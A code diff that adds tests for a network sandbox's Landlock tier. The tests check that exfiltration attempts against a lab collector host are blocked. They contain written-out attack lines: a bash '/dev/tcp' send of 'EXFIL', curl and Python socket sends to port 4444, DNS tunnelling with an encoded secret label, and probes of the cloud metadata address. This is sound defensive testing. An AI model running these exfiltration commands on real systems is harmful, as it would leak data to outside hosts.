@@ -74,6 +74,15 @@ try:
             out('OK answered rcode=%d ancount=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0]))
         except socket.timeout:
             out('OK sent no-answer')
+    elif mode == 'dns-udp-connected':
+        server, name = args[0], args[1]
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
+        s.connect((server, 53)); s.send(dns_query(name))
+        try:
+            r = s.recv(4096)
+            out('OK answered rcode=%d ancount=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0]))
+        except socket.timeout:
+            out('OK sent no-answer')
     elif mode == 'dns-tcp':
         server, name = args[0], args[1]
         s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3)
@@ -226,8 +235,10 @@ class Net : public SandboxTest {
   // allowed static host (documented in docs/profiles.md, contrary to the brief; see the DISABLED_
   // test at the end), so by-name attacks ask the stub for a name it does not know.
   std::vector<std::string> gate_args() const {
-    return {"--add-host", "registry.test=" + lab().registry4(), "--allow-host", "registry.test",
-            "--audit", audit_};
+    P args = {"--add-host", "registry.test=" + lab().registry4(), "--allow-host", "registry.test",
+              "--audit", audit_};
+    args.insert(args.end(), extra_args_.begin(), extra_args_.end());
+    return args;
   }
   std::string audit() const { return read_file(audit_); }
 
@@ -264,6 +275,7 @@ class Net : public SandboxTest {
     size_t n0 = lab().collector_count();
     RunSpec spec;
     spec.timeout_s = 20;
+    spec.env = extra_env_;
     RunResult r = sb().moat(cmd, gate_args(), spec);
     std::this_thread::sleep_for(std::chrono::milliseconds(300));
     auto got = lab().collector_since(n0);
@@ -285,10 +297,13 @@ class Net : public SandboxTest {
   }
 
   // An allowed-path run: the body the registry serves must come back.
-  RunResult allowed(const P& cmd, const std::string& what) {
+  RunResult allowed(const P& cmd, const std::string& what, P more_args = {}) {
     RunSpec spec;
     spec.timeout_s = 20;
-    RunResult r = sb().moat(cmd, gate_args(), spec);
+    spec.env = extra_env_;
+    P args = gate_args();
+    args.insert(args.end(), more_args.begin(), more_args.end());
+    RunResult r = sb().moat(cmd, args, spec);
     EXPECT_NE(r.out.find(lab().registry_body()), std::string::npos)
         << what << ": the allowed registry was not reachable\n" << r.describe();
     return r;
@@ -296,6 +311,8 @@ class Net : public SandboxTest {
 
   NetLab* lab_ = nullptr;
   std::string audit_;
+  P extra_args_;  // appended to every moat run's arguments (e.g. --tier landlock)
+  std::vector<std::pair<std::string, std::string>> extra_env_;  // e.g. MOAT_TEST_ONLY_LAYER
 };
 
 // ---- the allowed path keeps working ----------------------------------------------------------------
@@ -556,6 +573,136 @@ TEST_P(Net, AddHostAloneDoesNotAllow) {
 
 INSTANTIATE_TEST_SUITE_P(Identities, Net, ::testing::Values(Identity::kRoot, Identity::kUser),
                          IdentityName());
+
+// ---- tier landlock: no network namespace ---------------------------------------------------------
+// The same lab with `--tier landlock`: the sandbox shares the host's network. The gate brokers
+// connect() (Landlock refuses any TCP connect it did not make, seccomp refuses datagram sockets,
+// port 53 anywhere is the stub); with root the cgroup BPF layer allows only the stub, the address
+// rules and the handed-out addresses. Every configuration runs the core attacks: both layers (root
+// and user; the user has no BPF), then, as root, each layer ALONE (MOAT_TEST_ONLY_LAYER), which
+// must stop them on its own. Controls run once per attack, not per configuration.
+class LandlockNet : public Net {
+ protected:
+  struct Layers {
+    const char* name;
+    const char* only;  // MOAT_TEST_ONLY_LAYER, or "" for both
+  };
+  std::vector<Layers> configurations() const {
+    if (!as_root()) return {{"gate (no BPF without root)", ""}};
+    return {{"gate + kernel", ""}, {"gate alone", "gate"}, {"kernel alone", "kernel"}};
+  }
+  void use(const Layers& l) {
+    extra_args_ = {"--tier", "landlock"};
+    extra_env_.clear();
+    if (*l.only != '\0') extra_env_.push_back({"MOAT_TEST_ONLY_LAYER", l.only});
+  }
+  RunSpec layer_spec() const {
+    RunSpec spec;
+    spec.env = extra_env_;
+    return spec;
+  }
+};
+
+TEST_P(LandlockNet, AllowedPathWorks) {
+  for (const Layers& l : configurations()) {
+    SCOPED_TRACE(l.name);
+    use(l);
+    RunResult r = allowed(shell("curl --noproxy '*' -sS -m 5 " + reg_url()), "curl by name");
+    EXPECT_EQ(result_line(r), "rc=0") << r.describe();
+    r = allowed(shell("curl --noproxy '*' -sS -m 5 http://" + lab().registry4() + ":" +
+                      std::to_string(NetLab::kRegistryHttpPort) + "/"),
+                "curl by address rule",
+                {"--allow-host", lab().registry4() + ":" + std::to_string(NetLab::kRegistryHttpPort)});
+    EXPECT_EQ(result_line(r), "rc=0") << r.describe();
+    r = allowed(py({"urllib", reg_url()}), "python urllib");
+    EXPECT_EQ(result_line(r).rfind("OK ", 0), 0u) << r.describe();
+  }
+}
+
+TEST_P(LandlockNet, TcpAttacksReachNothing) {
+  const std::string col = lab().collector4();
+  const P curl_addr = shell("curl --noproxy '*' -sS -m 3 http://" + col + ":4444/");
+  const P py_tcp = py({"tcp", col, "4444", sb().canary("lltcp")});
+  const P dev_tcp = {"/bin/bash", "-c",
+                     "exec 3<>/dev/tcp/" + col + "/4444 && echo EXFIL >&3; echo \"RESULT rc=$?\""};
+  control_reaches_collector(curl_addr, "curl to collector:4444");
+  control_reaches_collector(py_tcp, "python socket");
+  control_reaches_collector(dev_tcp, "bash /dev/tcp");
+  for (const Layers& l : configurations()) {
+    SCOPED_TRACE(l.name);
+    use(l);
+    RunResult r = attack(shell("curl --noproxy '*' -sS -m 3 http://collector.test:4444/"),
+                         "curl collector.test");
+    EXPECT_NE(result_line(r), "rc=0") << r.describe();
+    r = attack(curl_addr, "curl by address");
+    EXPECT_NE(result_line(r), "rc=0") << r.describe();
+    r = attack(py_tcp, "python socket");
+    EXPECT_EQ(result_line(r).rfind("ERR", 0), 0u) << r.describe();
+    r = attack(dev_tcp, "bash /dev/tcp odd port");
+    EXPECT_NE(result_line(r), "rc=0") << r.describe();
+    r = sb().moat(Sandbox::probe({"connect-tcp", "169.254.169.254", "80"}), gate_args(),
+                  layer_spec());
+    EXPECT_NE(r.probe_line(), "") << r.describe();
+    EXPECT_FALSE(r.probe_ok()) << r.describe();
+    EXPECT_LT(r.seconds, 2.0) << "the metadata address must be refused at once\n" << r.describe();
+  }
+}
+
+TEST_P(LandlockNet, UdpAndDnsAttacksReachNothing) {
+  const std::string col = lab().collector4();
+  const std::string name = "6d6f61742d736563726574." + sb().tag() + ".registry.test";
+  const P udp = py({"udp", col, "4444", sb().canary("lludp")});
+  const P udp_connected = py({"udp-connected", col, "4444", sb().canary("lludpc")});
+  const P dns_sendto = py({"dns-udp", col, name});
+  const P dns_connected = py({"dns-udp-connected", col, name});
+  const P dns_tcp = py({"dns-tcp", col, name});
+  control_reaches_collector(udp, "udp sendto");
+  control_reaches_collector(udp_connected, "connected udp");
+  control_reaches_collector(dns_sendto, "DNS sendto to the collector");
+  control_reaches_collector(dns_connected, "DNS connect+send to the collector");
+  control_reaches_collector(dns_tcp, "DNS over TCP to the collector");
+  for (const Layers& l : configurations()) {
+    SCOPED_TRACE(l.name);
+    use(l);
+    attack(udp, "udp sendto");
+    attack(udp_connected, "connected udp");
+    // Port 53 anywhere is the stub: a DNS packet aimed at the collector is refused or answered
+    // by moat (NXDOMAIN), never delivered.
+    RunResult r = attack(dns_sendto, "DNS sendto to the collector");
+    EXPECT_EQ(result_line(r).find("rcode=0"), std::string::npos) << r.describe();
+    r = attack(dns_connected, "DNS connect+send to the collector");
+    EXPECT_EQ(result_line(r).find("rcode=0"), std::string::npos) << r.describe();
+    attack(dns_tcp, "DNS over TCP to the collector");
+    r = attack(shell("getent hosts collector-unlisted.test"), "getent of a name not allowed");
+    EXPECT_NE(result_line(r), "rc=0") << r.describe();
+    // The stub answers allowed names in this tier too.
+    r = sb().moat(py({"resolve", "registry.test"}), gate_args(), layer_spec());
+    EXPECT_EQ(result_line(r), "OK " + lab().registry4()) << r.describe();
+  }
+}
+
+TEST_P(LandlockNet, HostLoopbackListenerUnreachable) {
+  HostLoopbackListener listener;
+  ASSERT_TRUE(listener.ok());
+  const std::string port = std::to_string(listener.port());
+  RunResult c = sb().direct(Sandbox::probe({"connect-tcp", "127.0.0.1", port}));
+  EXPECT_TRUE(c.probe_ok()) << "CONTROL could not reach the host listener\n" << c.describe();
+  EXPECT_EQ(listener.accept_all(), 1) << "CONTROL: the host listener did not see the connection";
+  for (const Layers& l : configurations()) {
+    SCOPED_TRACE(l.name);
+    use(l);
+    RunResult r = sb().moat(Sandbox::probe({"connect-tcp", "127.0.0.1", port}), gate_args(),
+                            layer_spec());
+    EXPECT_NE(r.probe_line(), "") << r.describe();
+    EXPECT_FALSE(r.probe_ok()) << r.describe();
+    std::this_thread::sleep_for(std::chrono::milliseconds(200));
+    EXPECT_EQ(listener.accept_all(), 0)
+        << "ESCAPE: the host's loopback listener accepted a connection\n" << r.describe();
+  }
+}
+
+INSTANTIATE_TEST_SUITE_P(Identities, LandlockNet,
+                         ::testing::Values(Identity::kRoot, Identity::kUser), IdentityName());
 
 }  // namespace
 }  // namespace moat::testing
